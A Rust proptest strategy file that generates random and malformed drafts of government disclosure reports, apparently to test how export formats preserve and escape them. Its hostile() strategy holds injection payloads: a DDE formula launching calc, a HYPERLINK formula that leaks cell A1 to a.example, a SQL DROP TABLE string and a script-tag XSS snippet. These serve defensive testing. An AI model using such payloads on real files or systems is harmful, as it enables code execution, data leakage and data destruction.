//! Random drafts, in which anything may stand anywhere.

use disclosure_report::draft::{Notice, NoticeKind, Origin, Run, SetError, Source};
use disclosure_report::form::{CellId, Edition, Row, RowId};
use disclosure_report::{Cell, Count, Draft, Number, State};
use proptest::prelude::*;

use crate::strategies::{amount, edition, header, narrative, related_cells, report, unit};

fn source() -> impl Strategy<Value = Source> {
    let part = || prop::option::weighted(0.7, 1..5_000_u32);
    [part(), part(), part(), part(), part(), part()].prop_map(|[line, column, page, table, row, cell]| {
        let mut source = Source::default();
        [source.line, source.column, source.page] = [line, column, page];
        [source.table, source.row, source.cell] = [table, row, cell];
        source
    })
}

/// Numbers as they may be typed: mostly counts, with negative ones, fractions, and what is near and past the bounds.
pub(crate) fn number() -> impl Strategy<Value = Number> {
    prop_oneof![
        8 => (0..200_u32).prop_map(Number::from),
        2 => any::<i32>().prop_map(Number::from),
        1 => amount(),
        1 => "-?[0-9]{1,27}".prop_map(|text| text.parse().unwrap()),
        1 => "-?[0-9]{1,12}\\.[0-9]{1,15}".prop_map(|text| text.parse().unwrap()),
        1 => Just(Count::MAX.into()),
    ]
}

/// What may stand in a cell, but digits that run together.
pub(crate) fn state() -> impl Strategy<Value = State> {
    let note = prop::option::weighted(0.2, "其中修订[0-9]{1,2}件".prop_map(Box::from));
    let dash = prop::sample::select(vec!["-", "——", "/", "无", "不适用"]).prop_map(Box::from);
    let text = prop_oneof![Just("见附件".to_owned()), "[0-9]{1,3} [0-9]{1,3}", "[0-9]{29,40}"].prop_map(Box::from);
    prop_oneof![
        10 => (number(), unit(), note).prop_map(|(value, unit, note)| State::Number { value, unit, note }),
        4 => Just(State::Blank),
        3 => dash.prop_map(State::Dash),
        2 => text.prop_map(State::Unreadable),
        2 => Just(State::Missing),
    ]
}

pub(crate) fn cell() -> impl Strategy<Value = Cell> {
    (state(), prop::sample::select(Origin::ALL), source())
        .prop_map(|(state, origin, source)| Cell::new(state).with_origin(origin).with_source(source))
}

/// Digits that run together over some cells of a row, in up to six readings.
fn run(edition: Edition) -> impl Strategy<Value = Run> {
    let row = prop::sample::select(edition.rows().to_vec());
    (row, 1..=7_usize, prop::collection::vec(prop::array::uniform7(0..60_u32), 1..6), source()).prop_map(
        |(row, width, readings, source)| {
            let cells: Vec<_> = row.cells().map(|(id, _)| id).take(width).collect();
            let reading = |numbers: [u32; 7]| numbers.iter().take(cells.len()).map(|n| Number::from(*n)).collect();
            let readings = readings.into_iter().map(reading).collect();
            Run::new(cells, readings, "270020130").unwrap().with_source(source)
        },
    )
}

fn notice(edition: Edition) -> impl Strategy<Value = Notice> {
    let row = prop::sample::select(edition.rows().iter().map(|row: &Row| row.id).collect::<Vec<RowId>>());
    let kind = (row, 0..4_u8, 1..=6_u8, any::<bool>()).prop_map(|(row, which, number, absent)| match which {
        0 => NoticeKind::Label { row, official: "（七）总计".into() },
        1 => NoticeKind::Edition { row },
        2 => NoticeKind::Section { number, absent },
        _ => NoticeKind::Stray,
    });
    (kind, source()).prop_map(|(kind, source)| Notice::new(kind, "（七）合计", source))
}

/// Enters a cell, if it can be: a number too large for a count is refused, and a unit of money next to one.
fn enter(draft: &mut Draft, id: CellId, cell: Cell) {
    if let Err(refused) = draft.set(id, cell) {
        assert!(matches!(refused, SetError::TooLarge { .. } | SetError::NoMoney { .. }), "{refused}");
    }
}

/// A draft in which anything may stand anywhere.
pub(crate) fn draft() -> impl Strategy<Value = Draft> {
    edition().prop_flat_map(|edition| {
        let cells = prop::collection::vec(cell(), edition.cells().len());
        let runs = prop::collection::vec(run(edition), 0..4);
        let notices = prop::collection::vec(notice(edition), 0..4);
        (cells, runs, notices, prop::option::of(header(edition)), narrative()).prop_map(
            move |(cells, runs, notices, header, narrative)| {
                let mut draft = Draft::blank(edition);
                for (id, cell) in edition.cells().iter().zip(cells) {
                    enter(&mut draft, *id, cell);
                }
                for run in runs {
                    draft.add_run(run).unwrap();
                }
                for notice in notices {
                    draft.add_notice(notice);
                }
                draft.header = header.as_ref().map(Into::into).unwrap_or_default();
                draft.narrative = narrative;
                draft
            },
        )
    })
}

/// A report's draft with a few cells entered otherwise, or a draft in which anything stands.
pub(crate) fn any_draft() -> impl Strategy<Value = Draft> {
    let worn = report().prop_flat_map(|report| {
        let draft = Draft::from(&report);
        let cells = report.edition().cells();
        let changes = prop::collection::vec((prop::sample::select(cells), cell()), 0..6);
        let runs = prop::collection::vec(run(report.edition()), 0..2);
        (Just(draft), changes, runs).prop_map(|(mut draft, changes, runs)| {
            for (id, cell) in changes {
                enter(&mut draft, id, cell);
            }
            for run in runs {
                draft.add_run(run).unwrap();
            }
            draft
        })
    });
    prop_oneof![2 => worn, 1 => draft()]
}

/// A report as organs publish it: zeros left blank or dashed, totals left blank or wrong, rows not printed.
pub(crate) fn published() -> impl Strategy<Value = Draft> {
    let zeros = (0..=100_u8, 0..=100_u8);
    let totals = prop_oneof![3 => Just(0_u8), 1 => 0..=100_u8];
    let dice = prop::collection::vec(0..100_u8, 200);
    let changes = prop::collection::vec((any::<prop::sample::Index>(), -30..30_i32), 0..5);
    let missing = prop::collection::vec(any::<prop::sample::Index>(), 0..4);
    (report(), zeros, totals, dice, changes, missing).prop_map(|(report, zeros, totals, dice, changes, missing)| {
        let mut draft = Draft::from(&report);
        let edition = draft.edition();
        let related = related_cells(edition);
        let is_total = |cell: CellId| edition.relations().iter().any(|relation| relation.total() == Some(cell));
        for (cell, dice) in edition.cells().iter().zip(&dice) {
            let zero = draft.number(*cell).is_some_and(|number| number.is_zero());
            if zero && *dice < zeros.0 {
                draft.set(*cell, if *dice < zeros.1 { Cell::blank() } else { Cell::dash("—") }).unwrap();
            } else if is_total(*cell) && *dice < totals {
                draft.set(*cell, Cell::blank()).unwrap();
            }
        }
        for (at, by) in changes {
            let cell = *at.get(&related);
            let value = draft.number(cell).and_then(|number| number.to_integer()).unwrap_or(0);
            draft.set(cell, Number::from(i32::try_from(value).unwrap() + by)).unwrap();
        }
        for at in missing {
            for (cell, _) in at.get(edition.rows()).cells() {
                draft.set(cell, Cell::missing()).unwrap();
            }
        }
        draft
    })
}

/// Text that means something to spreadsheets, to databases or to the formats themselves.
pub(crate) fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        "[=+@'\\-\t\r\n\",;？（＝－＠\u{feff}a0 \u{0}]{0,5}",
        Just("=cmd|' /C calc'!A0".to_owned()),
        Just("=HYPERLINK(\"http://a.example/\"&A1,\"x\")".to_owned()),
        Just("'); DROP TABLE reports; --\\".to_owned()),
        Just("</td><script>alert(1)</script>${x}".to_owned()),
        Just("\r\n".to_owned()),
        ".{0,8}",
    ]
}

/// A draft in which every text may be hostile.
pub(crate) fn hostile_draft() -> impl Strategy<Value = Draft> {
    (any_draft(), prop::collection::vec(hostile(), 12)).prop_map(|(mut draft, texts)| {
        let mut texts = texts.into_iter();
        let mut next = || texts.next().unwrap();
        draft.header.organ = Some(next());
        [draft.narrative.overview, draft.narrative.problems, draft.narrative.other] = [next(), next(), next()];
        let cells = draft.edition().cells();
        draft.set(cells[3], Cell::from(Number::from(-8)).with_note(next())).unwrap();
        draft.set(cells[4], Cell::dash(next())).unwrap();
        draft.set(cells[5], Cell::unreadable(next()).with_origin(Origin::Read)).unwrap();
        let readings = [[1, 23], [12, 3]].map(|reading| reading.map(Number::from).to_vec()).to_vec();
        // Not in the form's order.
        let run = Run::new(vec![cells[9], cells[7]], readings, next()).unwrap();
        draft.add_run(run).unwrap();
        let row = cells[0].row();
        let kind = NoticeKind::Label { row, official: next().into() };
        draft.add_notice(Notice::new(kind, next(), Source::default()));
        draft.add_notice(Notice::new(NoticeKind::Section { number: 255, absent: true }, next(), Source::default()));
        draft
    })
}

/// Whatever a draft can hold: what a format that carries all of it is to bring back.
pub(crate) fn whatever() -> impl Strategy<Value = Draft> {
    prop_oneof![2 => any_draft(), 1 => published(), 1 => hostile_draft()]
}
